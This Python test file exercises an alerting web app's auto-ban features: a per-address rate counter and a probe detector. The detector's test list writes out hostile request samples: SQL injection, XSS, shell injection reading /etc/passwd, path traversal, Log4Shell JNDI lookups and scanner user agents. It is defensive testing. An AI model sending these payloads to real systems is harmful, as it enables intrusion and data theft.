"""The automatic-ban building blocks on their own: rate counter, probe signatures, path patterns."""

from __future__ import annotations

import re
import threading
from bisect import bisect_right

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from alertstation._native import ratecount as native_ratecount
from alertstation.app import StationApp
from alertstation.security.autoban.counter import HAS_NATIVE, PyRateCounter, RateCounter
from alertstation.security.autoban.probes import probe_of
from alertstation.security.autoban.settings import path_pattern

# --- rate counter ---------------------------------------------------------------------------

# Every counter test runs on the compiled counter and on its pure-Python twin.
IMPLEMENTATIONS = [
    pytest.param(RateCounter, id="native"),
    pytest.param(PyRateCounter, id="python"),
]


def test_the_compiled_counter_is_in_use() -> None:
    assert HAS_NATIVE is True
    assert RateCounter is native_ratecount.RateCounter
    assert RateCounter.__module__ == "alertstation._native.ratecount"


@pytest.mark.parametrize("make", IMPLEMENTATIONS)
def test_counts_per_address_and_trips_at_the_threshold(make: type[PyRateCounter]) -> None:
    counter = make(10.0)
    counts = [counter.hit("192.0.2.1", 100.0)[0] for _ in range(5)]
    assert counts == [1, 2, 3, 4, 5]
    assert counter.hit("192.0.2.2", 100.0) == (1, None)
    assert counter.count("192.0.2.1", 100.0) == 5
    assert counter.count("192.0.2.9", 100.0) == 0
    counter.forget("192.0.2.1")
    assert counter.count("192.0.2.1", 100.0) == 0 and len(counter) == 1
    assert (counter.window, counter.batch, counter.capacity) == (10.0, 0, 10_000)


@pytest.mark.parametrize("make", IMPLEMENTATIONS)
def test_requests_leave_the_window_slice_by_slice(make: type[PyRateCounter]) -> None:
    counter = make(10.0, slices=10)
    for second in range(10):  # one request a second, at 100.0 ... 109.0
        counter.hit("a", 100.0 + second)
    assert counter.count("a", 109.5) == 10
    assert counter.count("a", 110.0) == 9, "the request at 100.0 is 10 s old: out"
    assert counter.count("a", 115.0) == 4
    assert counter.count("a", 119.99) == 0
    assert counter.count("a", 200.0) == 0


@pytest.mark.parametrize("make", IMPLEMENTATIONS)
@settings(max_examples=200, deadline=None)
@given(
    gaps=st.lists(st.floats(min_value=0.0, max_value=4.0), min_size=1, max_size=120),
    window=st.sampled_from([1.0, 7.0, 10.0, 60.0]),
    slices=st.sampled_from([1, 4, 10]),
)
def test_the_count_lies_between_the_window_and_the_window_less_a_slice(
    make: type[PyRateCounter], gaps: list[float], window: float, slices: int
) -> None:
    counter = make(window, slices=slices)
    times: list[float] = []
    now = 1_000.0
    for gap in gaps:
        now += gap
        times.append(now)
        count, _ = counter.hit("a", now)
        # Brute-force oracle: requests within (now - window, now] and within the last
        # window - one slice (plus the float slack of slice boundaries).
        width = window / slices
        full = len(times) - bisect_right(times, now - window)
        least = len(times) - bisect_right(times, now - window + width + 1e-6)
        assert least <= count <= full, (count, least, full)


_STEPS = st.lists(
    st.tuples(
        st.sampled_from(["hit", "hit", "hit", "count", "forget"]),
        st.sampled_from(["a", "b", "c", "d", "e"]),
        st.floats(min_value=-3.0, max_value=6.0),
    ),
    max_size=150,
)


@settings(max_examples=200, deadline=None)
@given(
    steps=_STEPS,
    window=st.sampled_from([1.0, 7.0, 10.0]),
    slices=st.sampled_from([1, 3, 10]),
    batch=st.sampled_from([0, 1, 3]),
    capacity=st.sampled_from([1, 2, 4, 100]),
)
def test_the_compiled_counter_answers_like_its_python_twin(
    steps: list[tuple[str, str, float]], window: float, slices: int, batch: int, capacity: int
) -> None:
    # Times wander back and forth (a clock that steps back, negative times) and a small
    # capacity keeps evicting: every answer and the set of tracked addresses must agree.
    kwargs = {"batch": batch, "slices": slices, "capacity": capacity}
    native, twin = RateCounter(window, **kwargs), PyRateCounter(window, **kwargs)
    now = -5.0
    for action, address, step in steps:
        now += step
        if action == "hit":
            assert native.hit(address, now) == twin.hit(address, now)
        elif action == "count":
            assert native.count(address, now) == twin.count(address, now)
        else:
            native.forget(address)
            twin.forget(address)
        assert len(native) == len(twin)
    for address in "abcde":
        assert native.count(address, now) == twin.count(address, now)


@pytest.mark.parametrize("make", IMPLEMENTATIONS)
def test_batches_report_every_share_within_one_window(make: type[PyRateCounter]) -> None:
    counter = make(10.0, batch=3)
    reports = [counter.hit("a", 100.0 + index)[1] for index in range(7)]
    assert reports == [None, None, 100.0, None, None, 103.0, None]
    # A batch that does not fill within one window starts again: slow senders never report.
    slow = [counter.hit("b", 200.0 + 6 * index)[1] for index in range(10)]
    assert slow == [None] * 10


@pytest.mark.parametrize("make", IMPLEMENTATIONS)
def test_memory_is_bounded_and_busy_addresses_stay(make: type[PyRateCounter]) -> None:
    counter = make(10.0, capacity=100)
    for index in range(5_000):
        now = 100.0 + index * 0.01
        counter.hit(f"10.0.{index // 256}.{index % 256}", now)
        if index % 50 == 0:
            counter.hit("203.0.113.1", now)  # keeps sending while others come and go
    assert len(counter) == 100
    assert counter.count("203.0.113.1", now) > 0
    assert counter.count("10.0.0.0", now) == 0, "the oldest were dropped"
    # The 99 most recently seen addresses are the ones kept beside the busy one.
    kept = [
        index for index in range(5_000) if counter.count(f"10.0.{index // 256}.{index % 256}", now)
    ]
    assert kept == list(range(4_901, 5_000))


@pytest.mark.parametrize("make", IMPLEMENTATIONS)
def test_eviction_drops_the_least_recently_active_address(make: type[PyRateCounter]) -> None:
    counter = make(10.0, slices=10, capacity=3)
    counter.hit("a", 100.0)
    counter.hit("b", 100.0)
    counter.hit("c", 100.0)
    counter.hit("a", 101.0)  # a new slice: "a" becomes the most recently active
    counter.hit("d", 101.0)  # full: "b", the least recently active, goes
    assert len(counter) == 3
    assert [counter.count(name, 101.0) for name in "abcd"] == [2, 0, 1, 1]
    counter.forget("c")
    counter.hit("e", 101.0)  # room again after forget: nothing else is dropped
    assert [counter.count(name, 101.0) for name in "ade"] == [2, 1, 1]


@pytest.mark.parametrize("make", IMPLEMENTATIONS)
def test_counts_are_exact_under_threads(make: type[PyRateCounter]) -> None:
    counter = make(60.0, capacity=8)
    barrier = threading.Barrier(8)

    def hammer(number: int) -> None:
        barrier.wait()
        for index in range(2_000):
            counter.hit(f"k{index % 4}", 100.0 + index * 0.001)

    threads = [threading.Thread(target=hammer, args=(number,)) for number in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert [counter.count(f"k{key}", 102.0) for key in range(4)] == [4_000] * 4


@pytest.mark.parametrize("make", IMPLEMENTATIONS)
def test_no_update_is_lost_or_doubled_under_threads(make: type[PyRateCounter]) -> None:
    # Six threads send to one shared address and each to its own; all within the window, so
    # each count must equal the events sent, and the counts the shared address's hits got
    # back must be exactly 1..N: no two threads ever saw the same count.
    threads_n, events = 6, 5_000
    counter = make(3_600.0, slices=10, capacity=64)
    barrier = threading.Barrier(threads_n)
    seen: list[list[int]] = [[] for _ in range(threads_n)]

    def hammer(number: int) -> None:
        barrier.wait()
        for index in range(events):
            now = 1_000.0 + index * 0.01  # spans several slices: the slice change path runs
            seen[number].append(counter.hit("198.51.100.7", now)[0])
            counter.hit(f"203.0.113.{number}", now)

    workers = [threading.Thread(target=hammer, args=(number,)) for number in range(threads_n)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    end = 1_000.0 + events * 0.01
    assert counter.count("198.51.100.7", end) == threads_n * events
    assert sorted(count for counts in seen for count in counts) == list(
        range(1, threads_n * events + 1)
    )
    assert [counter.count(f"203.0.113.{n}", end) for n in range(threads_n)] == [events] * threads_n


@pytest.mark.parametrize("make", IMPLEMENTATIONS)
def test_bad_arguments_are_refused(make: type[PyRateCounter]) -> None:
    with pytest.raises(ValueError, match="window"):
        make(0)
    with pytest.raises(ValueError):
        make(10, capacity=0)
    with pytest.raises(ValueError):
        make(10, slices=0)
    with pytest.raises(ValueError):
        make(10, batch=-1)


# --- probes ---------------------------------------------------------------------------------

PROBES = [
    ("/wp-login.php", "", None, "scanner path"),
    ("/blog/wp-admin/install.php", "", None, "scanner path"),
    ("/wp-content/plugins/x", "", None, "scanner path"),
    ("/xmlrpc.php", "", None, "scanner path"),
    ("/.env", "", None, "scanner path"),
    ("/app/.env.production", "", None, "scanner path"),
    ("/.git/config", "", None, "scanner path"),
    ("/.git", "", None, "scanner path"),
    ("/phpMyAdmin/index", "", None, "scanner path"),
    ("/phpmyadmin2", "", None, "scanner path"),
    ("/cgi-bin/luci", "", None, "scanner path"),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "", None, "scanner path"),
    ("/HNAP1", "", None, "scanner path"),
    ("/actuator/health", "", None, "scanner path"),
    ("/index.php", "", None, "script file"),
    ("/login.aspx", "", None, "script file"),
    ("/backup.sql", "", None, "script file"),
    ("/static/../../etc/passwd", "", None, "path traversal"),
    ("/a/%2e%2e/b", "", None, "path traversal"),
    ("/a/..\\b", "", None, "path traversal"),
    ("/etc/passwd", "", None, "system file"),
    ("/api/alerts", "id=1%20UNION%20SELECT%201,2", None, "SQL injection"),
    ("/api/alerts", "id=1+union+all+select+null", None, "SQL injection"),
    ("/api/zones/picker", "q=1'%20OR%20'1'='1", None, "SQL injection"),
    ("/api/alerts", "id=1 AND 1=1", None, "SQL injection"),
    ("/api/alerts", "id=sleep(5)", None, "SQL injection"),
    ("/api/alerts", "id=%2527%2520OR%25201%253D1", None, "SQL injection"),
    ("/x", "q=%3Cscript%3Ealert(1)%3C/script%3E", None, "script injection"),
    ("/x", "next=javascript:alert(document.cookie)", None, "script injection"),
    ("/x", "q=%3Cimg%20src=x%20onerror=alert(1)%3E", None, "script injection"),
    ("/x", "cmd=;cat%20/etc/passwd", None, "shell injection"),
    ("/x", "host=127.0.0.1|sh", None, "shell injection"),
    ("/x", "a=$(id)", None, "shell injection"),
    ("/x", "a=%24%7Bjndi:ldap://e/x%7D", None, "shell injection"),
    ("/x", "file=../../etc/passwd", None, "path traversal"),
    ("/x", "page=php://filter/resource=index", None, "path traversal"),
    ("/", "", "sqlmap/1.7.2#stable (https://sqlmap.org)", "scanner user agent"),
    ("/", "", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)", "scanner user agent"),
    ("/", "", "${jndi:ldap://198.51.100.1/a}", "scanner user agent"),
]
CLEAN = [
    ("/", "", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36"),
    ("/api/broadcast/state", "", "curl/8.5.0"),
    ("/api/zones/picker", "q=tornado+warning+select+area", None),
    ("/api/zones/picker", "q=Orange+county,+or+1", None),
    ("/api/zones/picker", "q=O%27Brien+county", None),
    ("/alerts", "state=OR&area=select+from+list+where", None),
    ("/alerts/history", "page=2&size=50&id=5", None),
    ("/logs", "type=audit&action=config.updated", None),
    ("/logs/export.csv", "action=login%20failure", None),
    ("/login", "next=%2Falerts%2F12%3Fx%3D1", None),
    ("/messages/12/audio.wav", "", None),
    ("/eas/manual/events/3/audio.wav", "", None),
    ("/static/js/app.js", "v=3.2.1", None),
    ("/.well-known/security.txt", "", None),
    ("/docs/security-autoban", "", None),
    ("/api/zones/validate", "codes=TXZ001,TXZ002", None),
    ("/security/ip-filters", "kind=blocklist", None),
    ("/api/alerts", "since=2026-11-21T12:00:00%2B00:00", None),
]


@pytest.mark.parametrize(("path", "query", "agent", "label"), PROBES)
def test_probes_are_recognised(path: str, query: str, agent: str | None, label: str) -> None:
    found = probe_of(path, query, agent)
    assert found is not None and label in found, found
    assert probe_of(path, query, agent) == found, "the remembered verdict is the same"


@pytest.mark.parametrize(("path", "query", "agent"), CLEAN)
def test_ordinary_requests_are_not_probes(path: str, query: str, agent: str | None) -> None:
    assert probe_of(path, query, agent) is None


def test_no_route_of_the_station_looks_like_a_probe(app: StationApp) -> None:
    paths = {re.sub(r"\{\w+(:int)?\}", "12", route.path) for route in app.registry}
    assert len(paths) > 30
    assert {path: probe_of(path, "", None) for path in paths if probe_of(path, "", None)} == {}


# --- watched paths --------------------------------------------------------------------------


def test_path_patterns_match_whole_segments() -> None:
    pattern = path_pattern(("/stream", "/api/", "/messages/*/audio.wav"))
    assert pattern is not None
    for path in ("/stream", "/stream/live.mp3", "/api/", "/api/x", "/messages/12/audio.wav"):
        assert pattern.match(path), path
    for path in ("/streams", "/x/stream", "/api", "/messages/audio.wav", "/messages/1/2/audio.wav"):
        assert not pattern.match(path), path
    assert path_pattern(()) is None
